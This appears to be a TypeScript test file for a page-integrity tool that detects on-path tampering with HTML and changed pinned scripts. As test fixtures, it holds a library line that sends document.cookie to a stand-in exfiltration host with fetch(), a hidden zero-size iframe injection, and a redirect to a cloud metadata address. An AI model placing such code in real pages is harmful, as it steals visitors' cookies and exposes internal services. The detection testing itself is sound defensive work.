/**
 * `tagwarden probe URL...` (one-shot) against real servers on 127.0.0.1: exit 0 clean, 1 violations
 * (a changed pinned script included), 2 for a probe that failed, each failure named. The 2008
 * incident in miniature: an attacker on the path rewrites the origin's responses; the origin's own
 * inspector sees a clean page, the probe — which receives what visitors receive — catches it.
 */
import { createHash } from 'node:crypto'
import { createServer, request, type IncomingMessage, type ServerResponse } from 'node:http'
import { join } from 'node:path'
import { gunzipSync, gzipSync } from 'node:zlib'
import { Registry } from 'prom-client'
import t, { type Test } from 'tap'
import { tagwarden } from './helpers/cli.js'
import { wrapHandler } from '../src/entries/embed.js'
import { count, serve } from './helpers/embed.js'
import { closeServer, listen } from './helpers/proxy.js'

const LIB = 'window.lib = function () { return 42 }\n'
const CHANGED_LIB = `${LIB}fetch('https://exfil.example/?c=' + document.cookie)\n`
const sri = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`

const CLEAN = (libPort: number) =>
  '<!doctype html><title>shop</title><p>Welcome</p><script src="/app.js"></script>' +
  `<script src="http://127.0.0.1:${libPort}/lib.js"></script>`
/** The 1-based column where the start tag beginning with `start` ends (what findings give). */
const tagEnd = (page: string, start: string) => page.indexOf('>', page.indexOf(start)) + 1
const INJECTION = '<iframe src="http://evil.example/x" width="0" height="0"></iframe>'

function html(res: ServerResponse, body: string | Buffer, extra: Record<string, string> = {}): void {
  res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...extra })
  res.end(body)
}

/** A third-party CDN serving `lib.js` (gzipped: SRI hashes the decoded bytes); `change()` swaps its content. */
async function cdn(t: Test): Promise<{ port: number; change: () => void }> {
  let body = LIB
  const port = await serve(t, (_req, res) => {
    res.writeHead(200, { 'content-type': 'text/javascript', 'content-encoding': 'gzip' })
    res.end(gzipSync(body))
  })
  return { port, change: () => void (body = CHANGED_LIB) }
}

/** The site: every page shape a probe meets. */
function site(libPort: number) {
  return (req: IncomingMessage, res: ServerResponse): void => {
    const clean = CLEAN(libPort)
    switch (req.url) {
      case '/':
        return html(res, gzipSync(clean), { 'content-encoding': 'gzip' })
      case '/injected':
        return html(res, `${clean}${INJECTION}`)
      case '/moved':
        return void res.writeHead(301, { location: '/' }).end()
      case '/loop-a':
        return void res.writeHead(302, { location: '/loop-b' }).end()
      case '/loop-b':
        return void res.writeHead(302, { location: '/loop-a' }).end()
      case '/off-site':
        return void res.writeHead(302, { location: 'http://169.254.169.254/latest/' }).end()
      case '/500':
        res.writeHead(500, { 'content-type': 'text/html' })
        return void res.end('<p>oops</p>')
      case '/slow':
        return // never answers
      case '/huge':
        res.writeHead(200, { 'content-type': 'text/html' })
        res.write(clean)
        res.write(Buffer.alloc(12 * 1024 * 1024, 'a')) // past the 10 MiB bound
        return void res.end(INJECTION)
      default:
        res.writeHead(404, { 'content-type': 'text/plain' })
        res.end('not found')
    }
  }
}

const policyFor = (libPort: number) => ({
  action: 'report' as const,
  directives: { 'default-src': ["'self'"], 'script-src': ["'self'", `http://127.0.0.1:${libPort}`] },
  pins: { [`http://127.0.0.1:${libPort}/lib.js`]: sri(LIB) },
})

/**
 * The CDN, the site (its responses inspected by tagwarden at the origin, in report), and `probe(...)`
 * running the CLI with the same policy.
 */
async function setUp(t: Test) {
  const lib = await cdn(t)
  const registry = new Registry()
  const policy = policyFor(lib.port)
  const port = await serve(t, wrapHandler(site(lib.port), { policy, registry }))
  const file = join(t.testdir({ 'policy.json': JSON.stringify(policy) }), 'policy.json')
  return {
    lib,
    registry,
    base: `http://127.0.0.1:${port}`,
    probe: (...args: string[]) => tagwarden(['probe', '--policy', file, ...args]),
  }
}

/**
 * An attacker on the path (the 2008 neighbour answering ARP for the gateway): every response it relays
 * gets an iframe before `</body>` or at its end, content-encoding undone.
 */
async function tamperer(t: Test, origin: string): Promise<string> {
  const port = await serve(t, (req, res) => {
    const upstream = request(`${origin}${req.url}`, { headers: req.headers }, (answer) => {
      const parts: Buffer[] = []
      answer.on('data', (d: Buffer) => parts.push(d))
      answer.on('end', () => {
        let body = Buffer.concat(parts)
        if (answer.headers['content-encoding'] === 'gzip') body = gunzipSync(body)
        const headers = { ...answer.headers }
        delete headers['content-encoding']
        delete headers['content-length']
        delete headers['transfer-encoding']
        res.writeHead(answer.statusCode ?? 502, headers)
        res.end(`${body.toString('latin1')}${INJECTION}`, 'latin1')
      })
    })
    upstream.on('error', () => res.destroy())
    upstream.end()
  })
  return `http://127.0.0.1:${port}`
}

t.test(
  'tampering on the path: the origin inspects a clean page, the probe catches the injection',
  async (t) => {
    const { base, registry, probe } = await setUp(t)
    const path = await tamperer(t, base)
    const result = await probe(`${path}/`)
    t.equal(result.status, 1, result.stderr)
    t.match(
      result.stdout,
      new RegExp(`^${path}/:1:\\d+: frame-src: <iframe src="http://evil.example/x">$`, 'm'),
    )
    t.equal(
      await count(registry, 'tagwarden_responses_total', { verdict: 'clean' }),
      1,
      'the origin saw it clean',
    )
    t.equal(await count(registry, 'tagwarden_violations_total'), 0, 'and counted no violation')
    // The same probe straight at the origin: clean (the pinned script included).
    t.equal((await probe(`${base}/`)).status, 0)
  },
)

t.test('clean, injected, redirected: exit 0 and 1, one line per violation', async (t) => {
  const { base, probe } = await setUp(t)
  const clean = await probe(`${base}/`, `${base}/moved`)
  t.equal(clean.status, 0, clean.stderr)
  t.equal(clean.stdout, '')
  const injected = await probe(`${base}/injected`)
  t.equal(injected.status, 1, injected.stderr)
  t.match(
    injected.stdout,
    new RegExp(`^${base}/injected:1:\\d+: frame-src: <iframe src="http://evil.example/x">\\n$`),
  )
  const json = await probe('--json', `${base}/injected`)
  const lines = json.stdout
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l) as Record<string, unknown>)
  t.match(lines, [
    { type: 'violation', directive: 'frame-src', element: 'iframe', url: 'http://evil.example/x' },
    {
      type: 'probe',
      target: `${base}/injected`,
      success: false,
      status: 200,
      violations: 1,
      pins: { checked: 1, mismatched: 0 },
    },
  ])
})

t.test('a pinned script whose content changed is a violation of its own kind', async (t) => {
  const { lib, base, probe } = await setUp(t)
  const before = await probe('--json', `${base}/`)
  t.equal(before.status, 0, 'the pinned script as reviewed')
  t.match(JSON.parse(before.stdout) as object, { type: 'probe', pins: { checked: 1, mismatched: 0 } })
  lib.change()
  const after = await probe(`${base}/`)
  t.equal(after.status, 1, after.stderr)
  const libUrl = `http://127.0.0.1:${lib.port}/lib.js`
  t.equal(
    after.stdout,
    `${base}/:1:${tagEnd(CLEAN(lib.port), `<script src="${libUrl}"`)}: pin: <script src="${libUrl}"> ` +
      `(${libUrl}: expected ${sri(LIB)}, got ${sri(CHANGED_LIB)})\n`,
  )
})

t.test('each failure exits 2 and is named on stderr', async (t) => {
  const { base, probe } = await setUp(t)
  const cases: [path: string, reason: RegExp][] = [
    ['/500', /probe failed \(http_status\): HTTP status 500/],
    ['/loop-a', /probe failed \(redirect_loop\)/],
    ['/off-site', /probe failed \(off_site_redirect\)/],
    ['/slow', /probe failed \(timeout\): timed out after 500 ms/],
    ['/huge', /probe failed \(body_too_large\)/],
  ]
  for (const [path, reason] of cases) {
    // The timeout only where it is the point: a busy host must not turn another case into one.
    const result = await probe('--timeout', path === '/slow' ? '500' : '20000', `${base}${path}`)
    t.equal(result.status, 2, `${path}: exit 2`)
    t.match(result.stderr, new RegExp(`^tagwarden: ${base}${path}: ${reason.source}`, 'm'), path)
    t.equal(result.stdout, '', `${path}: nothing on stdout`)
  }
  // Nothing listens on a port just released: the connection is refused.
  const server = createServer()
  const port = await listen(server)
  await closeServer(server)
  const refused = await probe(`http://127.0.0.1:${port}/`)
  t.equal(refused.status, 2)
  t.match(refused.stderr, /probe failed \(connect\): .*ECONNREFUSED/)
})
